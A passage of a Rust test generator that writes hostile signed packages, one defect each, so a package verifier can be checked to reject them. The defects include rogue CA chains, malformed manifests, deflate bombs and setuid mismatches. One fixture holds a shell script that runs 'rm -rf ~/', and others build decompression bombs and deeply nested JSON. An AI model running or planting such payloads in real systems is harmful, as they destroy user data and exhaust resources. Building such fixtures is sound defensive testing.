            .as_bytes(),
        ),
    );
    {
        let mut bad_ca = ca_params("Attacker CA A", 0x7305);
        bad_ca.custom_extensions = vec![critical(
            &[1, 3, 6, 1, 4, 1, 99999, 3],
            vec![0x01, 0x01, 0xff],
        )];
        let pem = issue(
            &leaf_params("Attacker Code Signing", 0x7306),
            &leaf_kp,
            &bad_ca,
            &a_kp,
        )? + &issue(&bad_ca, &a_kp, &b, &b_kp)?;
        c.add(
            "intermediate-unknown-critical-extension",
            "untrusted_signer",
            "a bundled CA with an unknown critical extension",
            attacker_signed(&manifest, &leaf_sk, pem.as_bytes()),
        );
    }
    Ok(())
}

fn manifests(c: &mut Cases) {
    let pkg = r#""package":{"name":"hostile","version":"1.0.0"}"#;
    let files = |extra: &str| {
        format!(
            r#"[{{"path":"bin/tool","size":{},"sha256":"{}","mode":493{extra}}},{{"path":"etc/conf","size":{},"sha256":"{}","mode":420}}]"#,
            TOOL.len(),
            sha256_hex(TOOL),
            CONF.len(),
            sha256_hex(CONF)
        )
    };
    let doc = |rest: &str| format!(r#"{{"format":1,{pkg},"files":{}{rest}}}"#, files(""));
    c.add(
        "manifest-duplicate-key-top",
        "manifest_invalid",
        "\"files\" twice at the top level: parsers keep the first or the last list",
        c.with_manifest(
            format!(r#"{{"format":1,{pkg},"files":[],"files":{}}}"#, files("")).as_bytes(),
        ),
    );
    c.add(
        "manifest-duplicate-key-in-file",
        "manifest_invalid",
        "\"sha256\" twice in a file object",
        c.with_manifest(
            format!(
                r#"{{"format":1,{pkg},"files":{}}}"#,
                files(r#","sha256":"00""#)
            )
            .as_bytes(),
        ),
    );
    c.add(
        "manifest-duplicate-key-in-metadata",
        "manifest_invalid",
        "a duplicate key deep inside metadata",
        c.with_manifest(doc(r#","config":{"a":{"b":[{"c":1,"c":2}]}}"#).as_bytes()),
    );
    c.add(
        "manifest-duplicate-path",
        "manifest_invalid",
        "bin/tool listed twice",
        c.with_manifest(&manifest_for(&[
            ("bin/tool", TOOL, 0o755),
            ("bin/tool", TOOL, 0o755),
            ("etc/conf", CONF, 0o644),
        ])),
    );
    c.add(
        "manifest-duplicate-path-case",
        "manifest_invalid",
        "bin/tool and BIN/TOOL listed",
        c.with_manifest(
            manifest_for(&[
                ("bin/tool", TOOL, 0o755),
                ("BIN/TOOL", TOOL, 0o755),
                ("etc/conf", CONF, 0o644),
            ])
            .as_slice(),
        ),
    );
    c.add(
        "manifest-size-huge-float",
        "manifest_invalid",
        "size 1e400",
        c.with_manifest(
            doc("")
                .replacen(&format!(r#""size":{}"#, TOOL.len()), r#""size":1e400"#, 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-size-past-u64",
        "manifest_invalid",
        "size 18446744073709551616 (2^64)",
        c.with_manifest(
            doc("")
                .replacen(
                    &format!(r#""size":{}"#, TOOL.len()),
                    r#""size":18446744073709551616"#,
                    1,
                )
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-size-float",
        "manifest_invalid",
        "size 20.0",
        c.with_manifest(
            doc("")
                .replacen(
                    &format!(r#""size":{}"#, TOOL.len()),
                    &format!(r#""size":{}.0"#, TOOL.len()),
                    1,
                )
                .as_bytes(),
        ),
    );
    c.add("manifest-size-u64-max", "size_mismatch",
        "size 18446744073709551615 (u64::MAX) for a 20-byte entry: no overflow in the size-plus-one read bound",
        c.with_manifest(doc("").replacen(&format!(r#""size":{}"#, TOOL.len()), r#""size":18446744073709551615"#, 1).as_bytes()));
    c.add(
        "manifest-mode-huge",
        "manifest_invalid",
        "mode 4294967296",
        c.with_manifest(
            doc("")
                .replacen(r#""mode":493"#, r#""mode":4294967296"#, 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-format-huge",
        "manifest_invalid",
        "format 1e1000",
        c.with_manifest(
            doc("")
                .replacen(r#""format":1"#, r#""format":1e1000"#, 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-deep-nesting-129",
        "manifest_invalid",
        "metadata nested 129 levels deep (the limit is 128)",
        c.with_manifest(
            doc(&format!(
                r#","deep":{}{}"#,
                "[".repeat(129),
                "]".repeat(129)
            ))
            .as_bytes(),
        ),
    );
    c.add(
        "manifest-deep-nesting-100000",
        "manifest_invalid",
        "metadata nested 100,000 levels deep (a recursive parser would overflow its stack)",
        c.with_manifest(
            doc(&format!(
                r#","deep":{}{}"#,
                "[".repeat(100_000),
                "]".repeat(100_000)
            ))
            .as_bytes(),
        ),
    );
    c.add(
        "manifest-deep-objects-unclosed",
        "manifest_invalid",
        "100,000 unclosed {\"a\": objects",
        c.with_manifest(doc(&format!(r#","deep":{}"#, r#"{"a":"#.repeat(100_000))).as_bytes()),
    );
    c.add(
        "manifest-invalid-utf8",
        "manifest_invalid",
        "a byte 0xff inside a metadata string",
        c.with_manifest(
            &doc(r#","note":"caf@""#)
                .into_bytes()
                .into_iter()
                .map(|b| if b == b'@' { 0xff } else { b })
                .collect::<Vec<_>>(),
        ),
    );
    c.add(
        "manifest-overlong-utf8",
        "manifest_invalid",
        "an overlong UTF-8 encoding of / (0xc0 0xaf) in a path",
        c.with_manifest(
            &doc("")
                .replacen("bin/tool", "bin\u{1}tool", 1)
                .as_bytes()
                .iter()
                .flat_map(|&b| if b == 1 { vec![0xc0, 0xaf] } else { vec![b] })
                .collect::<Vec<_>>(),
        ),
    );
    c.add(
        "manifest-lone-surrogate",
        "manifest_invalid",
        "a lone UTF-16 surrogate escape (\\ud800) in a path",
        c.with_manifest(
            doc("")
                .replacen("bin/tool", "bin/tool\\ud800", 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-nul-in-path",
        "manifest_invalid",
        "a path with an escaped NUL (bin/tool\\u0000.txt)",
        c.with_manifest(
            doc("")
                .replacen("bin/tool", "bin/tool\\u0000.txt", 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-byte-order-mark",
        "manifest_invalid",
        "a UTF-8 byte order mark before the object",
        c.with_manifest(&[b"\xef\xbb\xbf".as_slice(), doc("").as_bytes()].concat()),
    );
    c.add(
        "manifest-trailing-data",
        "manifest_invalid",
        "a second JSON object after the first",
        c.with_manifest(format!("{}{}", doc(""), r#"{"format":1}"#).as_bytes()),
    );
    c.add(
        "manifest-not-an-object",
        "manifest_invalid",
        "a JSON array",
        c.with_manifest(b"[1]"),
    );
    c.add(
        "manifest-format-2",
        "manifest_invalid",
        "format 2",
        c.with_manifest(
            doc("")
                .replacen(r#""format":1"#, r#""format":2"#, 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-format-string",
        "manifest_invalid",
        "format \"1\"",
        c.with_manifest(
            doc("")
                .replacen(r#""format":1"#, r#""format":"1""#, 1)
                .as_bytes(),
        ),
    );
    c.add(
        "manifest-package-extra-key",
        "manifest_invalid",
        "an unknown key in package",
        c.with_manifest(
            doc("")
                .replacen(
                    r#""version":"1.0.0""#,
                    r#""version":"1.0.0","signed_by":"nobody""#,
                    1,
                )
                .as_bytes(),
        ),
    );
    c.add("manifest-declared-100mb-deflate-bomb", "limit_exceeded",
        "the manifest entry declares 100,000,000 bytes (a deflate stream of spaces): over the 64 MiB limit, refused before inflating",
        {
            let mut z = Zip::new(signed(&c.signer, &manifest_for(&listed()), payload()));
            let m = &mut z.entries[0];
            m.method = 8;
            let mut big = b"{\"format\":1,".to_vec();
            big.resize(100_000_000, b' ');
            m.body = Some(deflate_level(&big, flate2::Compression::best()));
            m.data = big;
            z.build()
        });
    c.add("manifest-understated-deflate-bomb", "archive_malformed",
        "the manifest entry declares 2,000 bytes but its deflate stream inflates to 64 MiB: reading stops at 2,001",
        {
            let mut z = Zip::new(signed(&c.signer, &manifest_for(&listed()), payload()));
            let m = &mut z.entries[0];
            let mut big = m.data.clone();
            big.resize(64 << 20, b' ');
            m.method = 8;
            m.body = Some(deflate_level(&big, flate2::Compression::best()));
            m.central_size = Some(2000);
            m.local_size = Some(2000);
            m.data.resize(2000, b' ');
            z.build()
        });
}

fn content(c: &mut Cases) {
    c.add(
        "unlisted-entry",
        "unlisted_entry",
        "a payload file the signed manifest does not list",
        c.pkg(|z| {
            z.entries
                .push(Entry::file("bin/evil", b"evil").mode(MODE_EXEC))
        }),
    );
    c.add(
        "unlisted-entry-like-signature",
        "unlisted_entry",
        "Signatures/x.sig: not the signatures folder (case), so payload, and unlisted",
        c.pkg(|z| z.entries.push(Entry::file("Signatures/x.sig", b"x"))),
    );
    c.add(
        "missing-entry",
        "missing_entry",
        "a listed file the archive does not hold",
        c.pkg(|z| {
            let i = idx(z, "etc/conf");
            z.entries.remove(i);
        }),
    );
    c.add(
        "size-mismatch",
        "size_mismatch",
        "bin/tool is one byte longer than listed",
        c.listing(
            &[("bin/tool", TOOL, 0o755)],
            vec![Entry::file("bin/tool", &[TOOL, b"\n"].concat()).mode(MODE_EXEC)],
        ),
    );
    c.add(
        "digest-mismatch",
        "digest_mismatch",
        "bin/tool replaced by bytes of the same length",
        c.pkg(|z| entry(z, "bin/tool").data = b"#!/bin/sh\nrm -rf ~/\n".to_vec()),
    );
    c.add(
        "setuid-not-listed",
        "mode_mismatch",
        "bin/tool setuid, the manifest says 0755",
        c.pkg(|z| entry(z, "bin/tool").external = 0o104_755 << 16),
    );
    c.add(
        "mode-missing-in-archive",
        "mode_mismatch",
        "bin/tool without a unix mode, the manifest says 0755",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.external = 0;
            e.made_by = 0x001e;
        }),
    );
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn main() -> Result<()> {
    let repo = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let out = std::env::args()
        .nth(1)
        .map(PathBuf::from)
        .unwrap_or_else(|| repo.join("testdata/hostile"));
    let mut c = Cases {
        signer: Signer::load(&repo)?,
        list: Vec::new(),
        controls: Vec::new(),
    };
    // Controls: the same raw writer and signer, untouched. They must verify,
    // which shows each case fails for its own defect.
    for (file, deflated) in [("control-stored", false), ("control-deflated", true)] {
        let mut z = Zip::new(signed(&c.signer, &manifest_for(&listed()), payload()));
        if deflated {
            for e in &mut z.entries {
                e.method = 8;
            }
        }
        c.controls.push(Case {
            file: format!("{file}.zip"),
            kind: "",
            attack: "none: a valid package from the same writer".into(),
            bytes: z.build(),
        });
    }
    structure(&mut c);
    paths(&mut c);
    layout(&mut c);
    signatures(&mut c)?;
    manifests(&mut c);
    content(&mut c);

    fs::create_dir_all(&out)?;
    for f in fs::read_dir(&out)? {
        let p = f?.path();
        if p.extension().is_some_and(|e| e == "zip") {
            fs::remove_file(p)?;
        }
    }
    for case in c.controls.iter().chain(&c.list) {
        fs::write(out.join(&case.file), &case.bytes)?;
    }
    let index = json!({
        "about": "Hostile packages, one attack each, written by examples/gen_hostile.rs; tests/hostile.rs verifies each file and asserts the exact error kind.",
        "trust": {
            "anchors": ["testdata/pki/root-g2.pem"],
            "crls": ["testdata/pki/signing-ca-g2.crl"],
            "at": "2027-06-01T00:00:00Z"
        },
        "controls": c.controls.iter().map(|c| json!({"file": c.file, "expect": "verified", "attack": c.attack})).collect::<Vec<_>>(),
        "cases": c.list.iter().map(|c| json!({"file": c.file, "kind": c.kind, "attack": c.attack})).collect::<Vec<_>>(),
    });
    let mut text = serde_json::to_string_pretty(&index)?;
    text.push('\n');
    fs::write(out.join("cases.json"), text)?;
    println!(
        "wrote {} cases and {} controls to {}",
        c.list.len(),
        c.controls.len(),
        out.display()
    );
    Ok(())
}
